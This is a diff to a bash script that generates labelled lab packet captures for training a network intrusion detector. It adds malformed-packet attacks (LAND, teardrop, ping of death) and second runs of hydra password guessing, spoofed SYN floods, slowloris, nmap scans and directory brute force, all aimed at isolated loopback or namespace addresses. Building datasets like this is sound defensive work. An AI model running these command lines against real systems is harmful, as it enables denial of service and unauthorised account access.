@@ -1,16 +1,32 @@
 #!/usr/bin/env bash
 # Make the labelled LAB captures of fixtures/lab/ (issue 12, item 1): attack variety (UDP/ICMP
 # floods, scans fast and slow, IPv6 scan, ping sweep, spoofed SYN flood, password guessing on
-# ssh/ftp/telnet/http, HTTP directory brute force, slowloris, DNS and ICMP tunnels) and benign
+# ssh/ftp/telnet/http, HTTP directory brute force, slowloris, DNS and ICMP tunnels, malformed
+# packets: LAND, teardrop, ping of death) and benign
 # variety (DNS, HTTP, HTTPS, SSH, FTP, SMTP, NTP, idle connections, a login after one typo).
 # Every scenario is made twice, by two independent runs with different parameters (ports,
 # rates, counts, targets, wordlists, timing): `train` -> fixtures/lab/train/,
-# `validation` -> fixtures/lab/validation/. Labels: fixtures/lab/labels.tsv (written by hand,
-# checked with bench/training-captures/check-lab.py). Descriptions: fixtures/lab/README.md.
+# `validation` -> fixtures/lab/validation/. Nine attack scenarios (bruteforce_ssh, _ftp,
+# _telnet, _http_basic, slowloris, synflood_spoofed, ping_sweep, dirbrute, scan_udp) and two
+# benign ones (benign_ssh, benign_web) also have a SECOND TRAIN RUN, `NAME_2` ->
+# fixtures/lab/train/NAME_2.pcap.gz, with parameters that differ from both other runs: more
+# independent training runs per attack kind (a kind with a single training run is poorly learned
+# from the other kinds), and benign runs that resemble those attacks' legitimate counterparts
+# (same addressing and services). These are separate scenarios (`bruteforce_ssh_2` ...), made
+# only when named or when no name is given; the validation runs are unchanged.
+# The malformed-packet scenarios (`land`, `teardrop`, `ping_of_death`; KDD land / teardrop /
+# pod, category dos, scenario `malformed`) were added later with all three runs at once: train,
+# validation and `NAME_2` (`land_2`, `teardrop_2`, `ping_of_death_2`), each with its own
+# targets, ports, counts, rates, sizes, fragment layout and loopback or veth. hping3 makes the
+# LAND SYNs; the overlapping fragments and the oversized fragmented echoes come from a raw-socket
+# sender in tools.py (`teardrop`, `pod`; no scapy needed).
+# Labels: fixtures/lab/labels.tsv (written by hand, checked with
+# bench/training-captures/check-lab.py). Descriptions: fixtures/lab/README.md.
 #
 # Run as root from anywhere:   bench/training-captures/make-lab.sh [SCENARIO...]
 # (no argument: every scenario; otherwise only the named ones, e.g. `udp_flood_closed ssh`;
-#  the names are the capture names without the run suffix, see the `scenario` calls below).
+#  the names are the capture names without the run suffix, see the `scenario` calls below;
+#  `NAME` makes the train and validation runs, `NAME_2` only the second train run).
 #
 # Needs (Debian 12 packages; this script installs nothing):
 #   hping3 nmap tcpdump hydra iodine dns2tcp ptunnel-ng slowhttptest openssh-server
@@ -111,12 +127,17 @@ nsa ip link set va up; nsb ip link set vb up
 # Sweep targets behind nadlab-b (which does not forward): a few live hosts in two /24s.
 for h in 1 7 19 44 100 201; do nsb ip addr add 169.254.78.$h/32 dev lo; done
 for h in 3 12 66 130 250; do nsb ip addr add 169.254.79.$h/32 dev lo; done
+for h in 5 61 118 240; do nsb ip addr add 169.254.80.$h/32 dev lo; done    # ping_sweep_2
 nsa ip route add 169.254.78.0/24 via 169.254.77.2
 nsa ip route add 169.254.79.0/24 via 169.254.77.2
+nsa ip route add 169.254.80.0/24 via 169.254.77.2
+# Extra client addresses of nadlab-a (secondary; 169.254.77.1 stays the default source): the
+# benign clients and background traffic of the veth second train runs.
+for h in 5 6 7; do nsa ip addr add 169.254.77.$h/24 dev va; done
 sleep 1
 
 # ------------------------------------------------------------------------- content ----
-mkdir -p "$WORK/www/css" "$WORK/www/js" "$WORK/www/img" "$WORK/www/private" "$WORK/www/admin" \
+mkdir -p "$WORK/www/css" "$WORK/www/js" "$WORK/www/img" "$WORK/www/private" "$WORK/www/admin" "$WORK/www/staff" \
          "$WORK/www/docs" "$WORK/ftp/pub" "$WORK/home" "$WORK/nginx/tmp"
 gen() { yes "$2" | head -c "$1" || true; }   # deterministic, compressible bytes
 rnd() { $PY -c "import random,sys;r=random.Random($2);sys.stdout.buffer.write(bytes(r.getrandbits(8) for _ in range($1)))"; }
@@ -139,6 +160,9 @@ for n in $(seq 1 36); do rnd $((1500 + (n * 977) % 9000)) "$n" > "$WORK/www/img/
   gen 6000 '<p>gallery text</p>'; echo "</body></html>"; } > "$WORK/www/gallery.html"
 gen 6000 '<p>private area</p>' > "$WORK/www/private/index.html"
 gen 6000 '<p>admin area</p>' > "$WORK/www/admin/index.html"
+gen 5000 '<p>staff area</p>' > "$WORK/www/staff/index.html"
+gen 14000 '<p>staff report: rota and holidays</p>' > "$WORK/www/staff/report.html"
+gen 3000 '<p>staff phone list</p>' > "$WORK/www/staff/phones.html"
 gen 300000 'download block 0123456789' > "$WORK/www/big.bin"
 gen 40000 'tunnelled file content ' > "$WORK/www/blob40k.txt"
 gen 24000 'tunnelled file content ' > "$WORK/www/blob24k.txt"
@@ -153,7 +177,8 @@ chmod -R a+rX "$WORK"
 
 # Word lists (deterministic): password guesses and web paths; none contains a real password.
 for spec in pass:40:101 pass:60:202 pass:50:303 pass:70:404 pass:22:505 pass:30:606 pass:80:707 pass:120:808 \
-            path:450:911 path:340:922; do
+            path:450:911 path:340:922 \
+            pass:48:1101 pass:90:1202 pass:26:1303 pass:100:1404 path:300:1505; do   # second train runs
   IFS=: read -r k n s <<<"$spec"; $PY "$TOOLS" words "$k" "$n" "$s" > "$WORK/$k$n.txt"
 done
 
@@ -197,7 +222,7 @@ if have sshd; then
   bgr "$NSB" /usr/sbin/sshd -D -e -f "$WORK/sshd_b_config"
 fi
 if have nginx; then
-  have htpasswd && { htpasswd -bcB "$WORK/htpasswd" admin 'Adm1n-lab-77' 2>/dev/null; htpasswd -bB "$WORK/htpasswd" webadmin 'W3b-lab-88' 2>/dev/null; }
+  have htpasswd && { htpasswd -bcB "$WORK/htpasswd" admin 'Adm1n-lab-77' 2>/dev/null; htpasswd -bB "$WORK/htpasswd" webadmin 'W3b-lab-88' 2>/dev/null; htpasswd -bB "$WORK/htpasswd" jsmith 'Staff-lab-99' 2>/dev/null; }
   cat >"$WORK/nginx/nginx.conf" <<EOF
 worker_processes 1;
 pid $WORK/nginx/nginx.pid;
@@ -214,6 +239,8 @@ http {
   server { listen 127.0.0.1:8080; root $WORK/www; keepalive_timeout 15; keepalive_requests 50;
            location /admin/ { auth_basic "lab admin"; auth_basic_user_file $WORK/htpasswd; } }
   server { listen 127.0.0.21:80; root $WORK/www; keepalive_timeout 0; }
+  server { listen 127.0.0.1:8008; root $WORK/www; keepalive_timeout 5; keepalive_requests 20;
+           location /staff/ { auth_basic "lab staff"; auth_basic_user_file $WORK/htpasswd; } }
   server { listen 127.0.0.1:443 ssl; root $WORK/www; keepalive_timeout 30;
            ssl_certificate $WORK/tls.crt; ssl_certificate_key $WORK/tls.key; }
 }
@@ -237,11 +264,14 @@ bgr "$NS" $PY "$TOOLS" ntp-server 127.0.0.123 123
 if $PY -c 'import pyftpdlib' 2>/dev/null; then
   bgr "$NS" $PY "$TOOLS" ftp-server 127.0.0.1 21 "$WORK/ftp"
   bgr "$NS" $PY "$TOOLS" ftp-server 127.0.0.1 2121 "$WORK/ftp"
+  bgr "$NS" $PY "$TOOLS" ftp-server 127.0.0.31 2021 "$WORK/ftp"    # bruteforce_ftp_2
 fi
 if have inetutils-inetd && have telnetd; then
   printf '127.0.0.1:23 stream tcp nowait root /usr/sbin/telnetd telnetd -h\n127.0.0.1:2323 stream tcp nowait root /usr/sbin/telnetd telnetd -h\n' > "$WORK/inetd.conf"
   # own UTS namespace: the login prompt shows the host name "labhost", not the machine's
   bgr "$NS" unshare --uts sh -c "hostname labhost; exec inetutils-inetd -d -p $WORK/inetd.pid $WORK/inetd.conf"
+  printf '169.254.77.2:23 stream tcp nowait root /usr/sbin/telnetd telnetd -h\n' > "$WORK/inetd_b.conf"  # bruteforce_telnet_2
+  bgr "$NSB" unshare --uts sh -c "hostname labhost; exec inetutils-inetd -d -p $WORK/inetd_b.pid $WORK/inetd_b.conf"
 fi
 $PY -c 'import aiosmtpd' 2>/dev/null && bgr "$NS" $PY -m aiosmtpd -n -c aiosmtpd.handlers.Sink -l 127.0.0.25:25
 bgr "$NS" $PY "$TOOLS" udp-sink 127.0.0.1 514 0
@@ -486,6 +516,84 @@ if scenario slowloris slowhttptest nginx; then
   cap_stop
 fi
 
+# Malformed packets (KDD land / teardrop / pod). LAND: hping3 TCP SYNs whose source address and
+# port equal the destination's (-a X -s P -k -p P X), open and closed ports; on loopback hping3's
+# -c counts every packet it sees there (its own SYN and the answers), so about c/2 SYNs go to a
+# closed port (SYN, RST) and c/3 to an open one (SYN, SYN-ACK, RST); across
+# the veth the victim (nadlab-b) drops a packet with its own address as source (martian) and
+# nothing answers. Teardrop and ping of death: `tools.py teardrop` / `tools.py pod` (raw IPv4
+# socket): overlapping UDP fragments (SHAPE = OFF:LEN:MF,... in bytes), and ICMP echo requests of
+# 65528 + TAIL bytes cut into FRAG-byte fragments up to offset 65528 (the kernel drops them;
+# what matters is what the capture sees). Background: page views, DNS lookups, normal pings.
+# land_lo TARGET SPEC...: SPEC = PORT:COUNT:INTERVAL (hping3 -c / -i), on loopback (nadlab).
+land_lo() {
+  local t=$1 spec p c i; shift
+  for spec in "$@"; do
+    IFS=: read -r p c i <<<"$spec"
+    nsx timeout 20 hping3 -q -S -a "$t" -s "$p" -k -p "$p" -c "$c" -i "$i" "$t" >/dev/null 2>&1 || true
+    sleep 1.5
+  done
+}
+# LAND SYNs to open ports of 127.0.0.1 leave half-open self-connections whose SYN-ACKs the
+# kernel retransmits for about a minute: let them die out before the next capture.
+syn_recv_drain() { for _ in $(seq 90); do [ "$("$@" ss -Htn state syn-recv | wc -l)" = 0 ] && break; sleep 1; done; }
+if scenario land hping3; then
+  RANDOM=4101
+  cap_start train land
+  ( for k in 1 2 3; do web_visit 127.0.0.59 http://127.0.0.1; sleep 2; done ) & b=$!
+  land_lo 127.0.0.1 80:20:u40000 22:14:u70000 139:18:u30000 3306:12:u100000   # open, open, closed, closed
+  wait $b || true
+  cap_stop
+  syn_recv_drain nsx
+  cap_start validation land "$NSA" va
+  ( for p in index.html page5.html page11.html api.json; do
+      nsa curl -s -o /dev/null --max-time 10 --interface 169.254.77.6 "http://169.254.77.2:8099/$p" >/dev/null 2>&1 || true; sleep 1.5; done ) &
+  b=$!
+  for spec in 22:6:u200000 8099:5:u250000 23:4:u300000 25:6:u150000 110:5:u200000 445:4:u350000; do
+    IFS=: read -r p c i <<<"$spec"
+    nsa timeout 20 hping3 -q -S -I va -a 169.254.77.2 -s "$p" -k -p "$p" -c "$c" -i "$i" 169.254.77.2 >/dev/null 2>&1 || true
+    sleep 1
+  done
+  wait $b || true
+  cap_stop
+fi
+# Teardrop: train 30 datagrams 127.0.0.1 -> 127.0.0.2:53 (closed), source ports 31000+, the
+# second fragment inside the first (teardrop.c: 0:36 MF, then 24:4 last), 80 ms apart;
+# validation 24 datagrams from a spoofed 127.0.0.91 to 127.0.0.6, random source and destination
+# ports, the second fragment overlapping the first's last 16 bytes and reaching beyond it
+# (0:64 MF, 48:40 last), 150 ms apart. Background: DNS lookups from 127.0.0.59.
+if scenario teardrop; then
+  cap_start train teardrop
+  ( for n in www git wiki mail nas cdn; do nsx dig +tries=1 +time=1 -b 127.0.0.59 @127.0.0.53 "$n.lab.example" >/dev/null 2>&1 || true; sleep 0.6; done ) & b=$!
+  nsx timeout 30 $PY "$TOOLS" teardrop 127.0.0.1 127.0.0.2 30 0.08 4201 0:36:1,24:4:0 31000+ 53 || true
+  wait $b || true
+  cap_stop
+  cap_start validation teardrop
+  ( for n in intranet files jira ci; do nsx dig +tries=1 +time=1 -b 127.0.0.59 @127.0.0.53 "$n.lab.example" >/dev/null 2>&1 || true; sleep 0.9; done ) & b=$!
+  nsx timeout 30 $PY "$TOOLS" teardrop 127.0.0.91 127.0.0.6 24 0.15 4202 0:64:1,48:40:0 rand rand || true
+  wait $b || true
+  cap_stop
+fi
+# Ping of death: train 6 echoes 127.0.0.1 -> 127.0.0.3 of 65528 + 1000 bytes in 1480-byte
+# fragments (46 each), in order, 0.8 s apart; background 5 normal pings and 2 of 20,000 bytes
+# 127.0.0.59 -> 127.0.0.1. Validation across the veth: 4 echoes 169.254.77.1 -> 169.254.77.2 of
+# 65528 + 472 bytes in 1232-byte fragments (55 each), last fragment first, 1.5 s apart;
+# background 4 normal pings and 2 of 3,000 bytes (fragmented, well formed) from 169.254.77.5.
+if scenario ping_of_death ping; then
+  cap_start train ping_of_death
+  ( nsx timeout 20 ping -q -c 5 -i 0.5 -I 127.0.0.59 127.0.0.1 >/dev/null 2>&1 || true
+    nsx timeout 20 ping -q -c 2 -i 1 -s 20000 -I 127.0.0.59 127.0.0.1 >/dev/null 2>&1 || true ) & b=$!
+  nsx timeout 30 $PY "$TOOLS" pod 127.0.0.1 127.0.0.3 6 0.8 4301 1480 1000 fwd || true
+  wait $b || true
+  cap_stop
+  cap_start validation ping_of_death "$NSA" va
+  ( nsa timeout 20 ping -q -c 4 -i 0.7 -I 169.254.77.5 169.254.77.2 >/dev/null 2>&1 || true
+    nsa timeout 20 ping -q -c 2 -i 1 -s 3000 -I 169.254.77.5 169.254.77.2 >/dev/null 2>&1 || true ) & b=$!
+  nsa timeout 30 $PY "$TOOLS" pod 169.254.77.1 169.254.77.2 4 1.5 4302 1232 472 rev || true
+  wait $b || true
+  cap_stop
+fi
+
 # Tunnels, across the veth pair (client in nadlab-a, server in nadlab-b), captured on va.
 # Each moves one bounded file through the tunnel from the HTTP server of nadlab-b (:8099).
 # (Background jobs are started with `ip netns exec` itself, not the nsa/nsb functions, so that
@@ -717,6 +825,201 @@ mixed_run() {  # DIR SEED SRCBASE SCALE
 if scenario benign_mixed dig; then
   mixed_run train 3701 60 3
   mixed_run validation 3702 70 2
+fi
+
+# ================================================================ SECOND TRAIN RUNS ======
+# `NAME_2` -> fixtures/lab/train/NAME_2.pcap.gz: a third, independent run of nine attack
+# scenarios and two benign ones, for training only (more independent training runs per attack
+# kind; validation is unchanged). Parameters differ from both other runs; several run across
+# the veth pair (attacker 169.254.77.1 in nadlab-a, servers in nadlab-b, captured on va) for
+# non-loopback addressing and timing, with benign clients / background on 169.254.77.5-7.
+# Parameters were fixed before generation and not adjusted after looking at any result.
+# scp here uses the legacy protocol (-O): sshd_conf has no `Subsystem sftp`, so OpenSSH 9's
+# default SFTP-based scp logs in and then fails without moving the file (as in benign_ssh).
+SCPO=("${SCP[@]}" -O)
+
+# SSH guessing across the veth: hydra 169.254.77.1 -> sshd 169.254.77.2:22 (nadlab-b), 48
+# passwords, 6 tasks, -w 5. Background: a key login and an scp from 169.254.77.5.
+if scenario bruteforce_ssh_2 hydra sshd ssh scp; then
+  cap_start train bruteforce_ssh_2 "$NSA" va
+  ( sleep 3; nsa "${SSH[@]}" -b 169.254.77.5 $LABUSER@169.254.77.2 'hostname; df -h | head -3' >/dev/null 2>&1 || true
+    sleep 4; nsa timeout 30 "${SCPO[@]}" -o BindAddress=169.254.77.5 "$LABUSER@169.254.77.2:$WORK/www/page4.html" "$WORK/dl4.html" >/dev/null 2>&1 || true ) &
+  b=$!
+  nsa timeout 150 hydra -l $LABUSER -P "$WORK/pass48.txt" -t 6 -w 5 -I -q -o /dev/null ssh://169.254.77.2:22 >/dev/null 2>&1 || true
+  wait $b || true
+  cap_stop
+  rm -f "$WORK/dl4.html"
+fi
+# FTP guessing on loopback to another server address and port: hydra -> pyftpdlib on
+# 127.0.0.31:2021, 90 passwords, 2 tasks. Background: 2 FTP sessions from 127.0.0.56.
+if scenario bruteforce_ftp_2 hydra; then
+  cap_start train bruteforce_ftp_2
+  ( sleep 3; nsx $PY "$TOOLS" ftp-good 127.0.0.31 2021 2 3503 127.0.0.56 >/dev/null 2>&1 || true ) &
+  b=$!
+  nsx timeout 150 hydra -l alice -P "$WORK/pass90.txt" -t 2 -I -q -o /dev/null ftp://127.0.0.31:2021 >/dev/null 2>&1 || true
+  wait $b || true
+  cap_stop
+fi
+# Telnet guessing across the veth: hydra 169.254.77.1 -> telnetd (inetutils-inetd in nadlab-b)
+# on 169.254.77.2:23, 26 passwords, 6 tasks, -w 5, bounded at 150 s. No background.
+if scenario bruteforce_telnet_2 hydra inetutils-inetd telnetd; then
+  cap_start train bruteforce_telnet_2 "$NSA" va
+  nsa timeout 150 hydra -l $LABUSER -P "$WORK/pass26.txt" -t 6 -w 5 -I -q -o /dev/null telnet://169.254.77.2:23 >/dev/null 2>&1 || true
+  cap_stop
+fi
+# HTTP basic-auth guessing on loopback: hydra -> nginx 127.0.0.1:8008 /staff/ (user jsmith),
+# 100 passwords, 2 tasks. Background: 4 page views from 127.0.0.56 to the same server.
+if scenario bruteforce_http_basic_2 hydra nginx; then
+  RANDOM=2401
+  cap_start train bruteforce_http_basic_2
+  ( for k in 1 2 3 4; do web_visit 127.0.0.56 http://127.0.0.1:8008; sleep 1.5; done ) &
+  b=$!
+  nsx timeout 150 hydra -l jsmith -P "$WORK/pass100.txt" -t 2 -I -q -o /dev/null -s 8008 127.0.0.1 http-get /staff/ >/dev/null 2>&1 || true
+  wait $b || true
+  cap_stop
+fi
+# Slowloris against the server without keep-alive (127.0.0.21:80): more connections, faster
+# ramp-up, shorter header interval and test. Background: page views 127.0.0.57 -> 127.0.0.1:80.
+if scenario slowloris_2 slowhttptest nginx; then
+  RANDOM=2303
+  cap_start train slowloris_2
+  ( for k in 1 2 3; do web_visit 127.0.0.57 http://127.0.0.1; sleep 3; done ) & b=$!
+  nsx timeout 60 slowhttptest -H -c 220 -r 80 -i 4 -l 25 -x 40 -p 4 -u http://127.0.0.21/page7.html >/dev/null 2>&1 || true
+  wait $b || true
+  cap_stop
+fi
+# Spoofed SYN flood across the veth: hping3 --rand-source from nadlab-a to sshd 169.254.77.2:22
+# (nadlab-b has no route back to the random sources, so nothing answers on the wire).
+# Background: page views 169.254.77.6 -> the HTTP server 169.254.77.2:8099.
+if scenario synflood_spoofed_2 hping3; then
+  cap_start train synflood_spoofed_2 "$NSA" va
+  ( for p in index.html page2.html page9.html gallery.html; do
+      nsa curl -s -o /dev/null --max-time 10 --interface 169.254.77.6 "http://169.254.77.2:8099/$p" "http://169.254.77.2:8099/css/site.css" >/dev/null 2>&1 || true; sleep 1; done ) &
+  b=$!
+  nsa timeout 30 hping3 -q -S --rand-source -I va -p 22 -c 2200 -i u900 169.254.77.2 >/dev/null 2>&1 || true
+  wait $b || true
+  cap_stop
+  for _ in $(seq 90); do [ "$(nsb ss -Htn state syn-recv | wc -l)" = 0 ] && break; sleep 1; done
+fi
+# Ping sweep of a third /24 (4 hosts alive): ICMP echo and timestamp, -T5, one retry.
+if scenario ping_sweep_2 nmap; then
+  cap_start train ping_sweep_2 "$NSA" va
+  nsa timeout 120 nmap -sn -n -PE -PP -T5 --max-retries 1 169.254.80.0/24 >/dev/null 2>&1 || true
+  cap_stop
+fi
+# Directory brute force, 300 other paths, 4 in parallel (xargs -P 4, one curl per path),
+# 127.0.0.68 -> the server without keep-alive (127.0.0.21:80), ffuf's user agent.
+# Background: page views 127.0.0.58 -> 127.0.0.1:80.
+if scenario dirbrute_2 curl nginx; then
+  RANDOM=2203
+  cap_start train dirbrute_2
+  ( for k in 1 2 3 4; do web_visit 127.0.0.58 http://127.0.0.1; sleep 1.5; done ) & b=$!
+  nsx timeout 150 xargs -P 4 -I{} curl -s -o /dev/null --max-time 5 --interface 127.0.0.68 -A "Fuzz Faster U Fool v2.1.0" "http://127.0.0.21/{}" < "$WORK/path300.txt" || true
+  wait $b || true
+  cap_stop
+fi
+# UDP scan of the resolver's address (dnsmasq on 127.0.0.53:53, everything else closed), -T3,
+# 184 ports, two retries, from 127.0.0.68.
+if scenario scan_udp_2 nmap; then
+  cap_start train scan_udp_2
+  nsx timeout 120 nmap -sU -Pn -n -T3 -p 20-180,500-520,1900,5353 --max-retries 2 --host-timeout 100s -S 127.0.0.68 -e lo 127.0.0.53 >/dev/null 2>&1 || true
+  cap_stop
+fi
+# LAND on loopback to two other targets: 127.0.0.21 (nginx :80 open, :443 closed there) and
+# 127.0.0.25 (aiosmtpd :25 open, :587 closed). Background from 127.0.0.59: 3 pings and a page
+# view to 127.0.0.21.
+if scenario land_2 hping3; then
+  RANDOM=4103
+  cap_start train land_2
+  ( nsx timeout 10 ping -q -c 3 -i 0.8 -I 127.0.0.59 127.0.0.21 >/dev/null 2>&1 || true
+    web_visit 127.0.0.59 http://127.0.0.21 ) & b=$!
+  land_lo 127.0.0.21 80:22:u25000 443:16:u50000
+  land_lo 127.0.0.25 25:14:u60000 587:12:u90000
+  wait $b || true
+  cap_stop
+  syn_recv_drain nsx
+fi
+# Teardrop across the veth: 40 datagrams 169.254.77.1 -> 169.254.77.2:1434 (closed), source
+# ports 44000+, three fragments each (0:48 MF, 40:24 MF overlapping it, 16:8 last inside the
+# first), 50 ms apart. Background: 3 page views and 3 pings from 169.254.77.5.
+if scenario teardrop_2 curl; then
+  cap_start train teardrop_2 "$NSA" va
+  ( for p in page3.html gallery.html page8.html; do
+      nsa curl -s -o /dev/null --max-time 10 --interface 169.254.77.5 "http://169.254.77.2:8099/$p" >/dev/null 2>&1 || true; sleep 0.8; done
+    nsa timeout 10 ping -q -c 3 -i 0.5 -I 169.254.77.5 169.254.77.2 >/dev/null 2>&1 || true ) & b=$!
+  nsa timeout 30 $PY "$TOOLS" teardrop 169.254.77.1 169.254.77.2 40 0.05 4203 0:48:1,40:24:1,16:8:0 44000+ 1434 || true
+  wait $b || true
+  cap_stop
+fi
+# Ping of death on loopback with jumbo fragments: 5 echoes from a spoofed 127.0.0.92 to
+# 127.0.0.1 of 65528 + 8 bytes (65,556-byte datagram) in 8192-byte fragments (9 each), in order,
+# 0.5 s apart. Background: 4 normal pings 127.0.0.59 -> 127.0.0.21.
+if scenario ping_of_death_2 ping; then
+  cap_start train ping_of_death_2
+  ( nsx timeout 10 ping -q -c 4 -i 0.6 -I 127.0.0.59 127.0.0.21 >/dev/null 2>&1 || true ) & b=$!
+  nsx timeout 30 $PY "$TOOLS" pod 127.0.0.92 127.0.0.1 5 0.5 4303 8192 8 fwd || true
+  wait $b || true
+  cap_stop
+fi
+# Benign SSH across the veth (the legitimate counterpart of bruteforce_ssh_2): three clients
+# 169.254.77.5/.6/.7 -> sshd 169.254.77.2:22: key logins with commands, scp up and down, a
+# short interactive session, two password logins after one mistyped password each.
+if scenario benign_ssh_2 sshd ssh scp; then
+  RANDOM=3403
+  cap_start train benign_ssh_2 "$NSA" va
+  nsa timeout 30 "${SSH[@]}" -b 169.254.77.5 $LABUSER@169.254.77.2 'uname -a; uptime' >/dev/null 2>&1 || true
+  sleep 1.$((RANDOM % 9))
+  ssh_askpass 'Lab-pass-4712'
+  nsa env SSH_ASKPASS="$WORK/askpass.sh" SSH_ASKPASS_REQUIRE=force DISPLAY=:0 timeout 30 \
+    ssh "${SSHO[@]}" -o PubkeyAuthentication=no -o PreferredAuthentications=password -o NumberOfPasswordPrompts=3 \
+    -b 169.254.77.6 $LABUSER@169.254.77.2 'id; ls' </dev/null >/dev/null 2>&1 || true
+  sleep 1.$((RANDOM % 9))
+  nsa timeout 30 "${SCPO[@]}" -o BindAddress=169.254.77.5 "$WORK/notes.txt" $LABUSER@169.254.77.2:notes-up2.txt >/dev/null 2>&1 || true
+  sleep 0.$((RANDOM % 9 + 1))
+  { sleep 1.5; type_slowly 'pwd'; sleep 0.8; type_slowly 'ls'; sleep 1; type_slowly 'exit'; sleep 1; } |
+    nsa timeout 40 "${SSH[@]}" -tt -b 169.254.77.7 $LABUSER@169.254.77.2 >/dev/null 2>&1 || true
+  sleep 1.$((RANDOM % 9))
+  nsa timeout 30 "${SCPO[@]}" -o BindAddress=169.254.77.6 "$LABUSER@169.254.77.2:$WORK/www/js/app.js" "$WORK/dl2.js" >/dev/null 2>&1 || true
+  sleep 0.$((RANDOM % 9 + 1))
+  ssh_askpass 'lab-Pass-4711'
+  nsa env SSH_ASKPASS="$WORK/askpass.sh" SSH_ASKPASS_REQUIRE=force DISPLAY=:0 timeout 30 \
+    ssh "${SSHO[@]}" -o PubkeyAuthentication=no -o PreferredAuthentications=password -o NumberOfPasswordPrompts=3 \
+    -b 169.254.77.7 $LABUSER@169.254.77.2 'date' </dev/null >/dev/null 2>&1 || true
+  sleep 1.$((RANDOM % 9))
+  nsa timeout 30 "${SCPO[@]}" -o BindAddress=169.254.77.5 "$LABUSER@169.254.77.2:$WORK/www/index.html" "$WORK/dl2.html" >/dev/null 2>&1 || true
+  sleep 0.$((RANDOM % 9 + 1))
+  nsa timeout 30 "${SSH[@]}" -b 169.254.77.6 $LABUSER@169.254.77.2 'wc -c notes-up2.txt; ls | wc -l' >/dev/null 2>&1 || true
+  sleep 1
+  cap_stop
+  rm -f "$WORK/home/notes-up2.txt" "$WORK/dl2.js" "$WORK/dl2.html"
+fi
+# Benign web (the legitimate counterpart of bruteforce_http_basic_2 and dirbrute_2): many short
+# HTTP connections (one request each) from 127.0.0.76/.77/.78 to 127.0.0.21:80 and
+# 127.0.0.1:8008, some 404s; each client opens /staff/ without credentials (401), once with a
+# mistyped password (401), then logs in and reads a few staff pages.
+if scenario benign_web_2 curl nginx; then
+  RANDOM=3203
+  cap_start train benign_web_2
+  get() { nsx curl -s -o /dev/null --max-time 10 --interface "$1" -A 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0)' "${@:2}" >/dev/null 2>&1 || true; }
+  for k in $(seq 30); do
+    src=127.0.0.$((76 + k % 3))
+    case $((RANDOM % 4)) in
+      0) get "$src" "http://127.0.0.21/${PAGES[RANDOM % ${#PAGES[@]}]}" ;;
+      1) get "$src" "http://127.0.0.1:8008/${PAGES[RANDOM % 13]}" ;;
+      2) get "$src" -H 'Connection: close' "http://127.0.0.1:8008/${PAGES[RANDOM % ${#PAGES[@]}]}" ;;
+      3) get "$src" "http://127.0.0.21/${PAGES[RANDOM % 13]}" ;;
+    esac
+    ((RANDOM % 5 == 0)) && get "$src" "http://127.0.0.21/old-page-$((RANDOM % 40)).html"
+    if ((k % 10 == 5)); then
+      get "$src" http://127.0.0.1:8008/staff/
+      sleep 1.$((RANDOM % 9))
+      get "$src" -u 'jsmith:Staff-lab-9' http://127.0.0.1:8008/staff/
+      sleep 1.$((RANDOM % 9))
+      for p in index.html report.html phones.html; do get "$src" -u 'jsmith:Staff-lab-99' "http://127.0.0.1:8008/staff/$p"; sleep 0.$((RANDOM % 6 + 2)); done
+    fi
+    sleep 0.$((RANDOM % 9 + 1))
+  done
+  cap_stop
 fi
 
 stop_holds; stop_pids "${PIDS[@]}"; PIDS=()
